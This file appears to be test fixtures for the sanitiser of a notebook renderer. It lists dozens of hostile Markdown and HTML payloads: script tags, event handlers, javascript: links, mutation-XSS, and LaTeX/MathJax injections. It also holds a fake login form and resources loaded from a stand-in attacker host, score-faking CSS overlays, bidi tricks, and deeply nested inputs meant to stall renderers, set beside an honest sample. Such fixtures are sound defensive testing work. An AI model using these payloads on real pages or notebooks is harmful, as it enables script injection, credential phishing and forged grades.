"""What a hostile student writes for whoever reads her notebook, and what an honest one writes.

Each piece of Markdown would run `ran(...)`, ask `attacker.invalid` for something, or show itself outside of
its cell, in a page that takes it as it is.
"""

PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAoAAAAKCAIAAAACUFjqAAAAEklEQVR4nGP4z8CAB+GTG8HSALfKY52fTcuYAAAAAElFTkSuQmCC"
EVIL = "https://attacker.invalid"
COVER = "position:fixed;top:0;left:0;width:100%;height:100%;z-index:99999;background:red"

MARKDOWN = {
    "script": "<script>ran('script')</script>",
    "script in a paragraph": f"Look: <script src='{EVIL}/s.js'></script><script>ran('inline')</script>",
    "event handler": "<img src=x onerror=\"ran('onerror')\">",
    "svg": "<svg onload=\"ran('svg')\"><animate onbegin=\"ran('animate')\" attributeName=x dur=1s></svg>",
    "details": "<details open ontoggle=\"ran('toggle')\">x</details>",
    "focus": "<input autofocus onfocus=\"ran('focus')\"><p tabindex=0 autofocus onfocus=\"ran('p')\">p</p>",
    "style sheet": f"<style>body{{display:none}} @import url({EVIL}/i.css);</style>",
    "style attribute": f'<div style="{COVER}">Score: 100</div>',
    "page classes": '<div class="navbar-fixed-top modal-backdrop in">covered</div>',
    "background picture": f'<p style="background:url({EVIL}/bg.png)">p</p>',
    "iframe": f'<iframe src="{EVIL}/f"></iframe><iframe srcdoc="<script>parent.ran(1)</script>"></iframe>',
    "object": f'<object data="{EVIL}/o.swf"></object><embed src="{EVIL}/e.swf">',
    "redirection": f'<meta http-equiv="refresh" content="0;url={EVIL}/go"><base href="{EVIL}/">',
    "form": f'<form action="{EVIL}/login"><input name=password><button>Log in</button></form>',
    "javascript link": "[x](javascript:ran('link')) <a href=\"JaVa&#115;cript:ran('a')\">y</a>",
    "reference link": "[click][1]\n\n[1]: javascript:ran('reference')",
    "data link": "[d](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "remote picture": f"![p]({EVIL}/p.png) ![q][r] <img srcset='{EVIL}/s.png 1x'>\n\n[r]: {EVIL}/q.png",
    "sound and film": f'<video src="{EVIL}/v.mp4" poster="{EVIL}/v.png"></video><audio src="{EVIL}/a">',
    "style link": f'<link rel="stylesheet" href="{EVIL}/l.css"><link rel="prefetch" href="{EVIL}/pre">',
    "closing tags": f'</div></div></div></div></div></div></div></div><h1 style="{COVER}">outside</h1>',
    "unclosed tags": "<div><table><tr><td><b><script>ran('unclosed')",
    "comment": "<!-- --!><img src=x onerror=\"ran('comment')\"> -->",
    "mutation": "<math><mtext><mglyph><style><!--</style><a title='--&gt;&lt;img src=x onerror=ran(1)&gt;'>",
    "noscript": "<noscript><p title=\"</noscript><img src=x onerror=ran('noscript')>\">",
    "mermaid": "```mermaid\n<img src=x onerror=\"ran('mermaid')\">\n```",
    "formula with a link": "$\\href{javascript:ran('href')}{x}$ $\\require{html}\\style{position:fixed}{y}$",
    "formula across lines": f"$$\n\n![x]({EVIL}/math.png)\n\n$$",
    "formula redefined": "$\\def\\frac#1#2{evil}\\class{navbar-fixed-top}{z}\\unicode{60}$",
    "entities": "&#36;&#92;href{javascript:ran('entity')}{x}&#36; &lt;script&gt;ran('text')&lt;/script&gt;",
    "formula with HTML": "$\\text{<img src=x onerror=\"ran('tex')\">}$",
    "attachment": "![a](attachment:missing.svg)",
    "heading that takes a name": "# test_f\n\n# why",
    "link that takes a name": "<a name=test_f id=test_f>x</a><form id=why>",
    "formula out of its place": "$\\mspace{-40em}\\text{5 of 5}$$$\\genfrac{}{}{200em}{}{a}{b}\\\\[-9em] c$$",
    "formula for the next one": "$\\Newextarrow{\\frac}{10,10}{0x2194}$",
    "direction by entities": "<b>&#x202e;detrever&#8297;</b>",
    "direction": "\u202edetrever\u202c \u2067x\u2069",
}

CODE = f"""# \u202e reversed\nfrom IPython.display import HTML, Javascript, display
print("\\x1b]8;;{EVIL}\\x1b\\\\a link\\x1b]8;;\\x1b\\\\ \\x1b[31mred\\x1b[0m \\x9b2J \\u202e")
print("<script>ran('printed')</script><img src={EVIL}/printed.png>")
display(HTML("<script>ran('displayed')</script>"), Javascript("ran('js')"))
raise ValueError("<img src=x onerror=ran('raised')>\\x1b[2J")"""

RAW = f"<script>ran('raw')</script><img src={EVIL}/raw.png>"

HONEST = f"""## What I found

He's weights keep the **variance**, because $W_{{ij}} \\sim N(0, 2/n)$ and ReLU halves it:

$$\\operatorname{{Var}} z = \\frac{{2}}{{n}} \\sum_{{j=1}}^{{n}} x_j^2$$

| layers | spread |
|-------:|:------:|
| 10     | *1.02* |

1. measured
2. compared with [the paper](https://arxiv.org/abs/1502.01852)

<table border="1" class="dataframe"><thead><tr style="text-align: right;"><th></th><th>cost</th></tr></thead>
<tbody><tr><th>0</th><td>0.69</td></tr></tbody></table>

![a plot](data:image/png;base64,{PIXEL})

```python
assert a < b
```
"""

DEEP = {
    "boxes": "<div>" * 300 + "x" + "</div><b>y</b>" * 300,
    "roots": "$" + "\\sqrt{" * 200 + "x" + "}" * 200 + "$",
    "fractions": "$$" + "\\frac{1}{" * 200 + "x" + "}" * 200 + "$$",
    "braces": "$" + "{" * 900 + "x" + "}" * 900 + "$",
    "sizes": "$" + "\\Huge " * 400 + "x$",
    "brackets": "[(" * 75_000,
}
"""What is nested so deep, or is so long, that some renderer fails or takes minutes."""
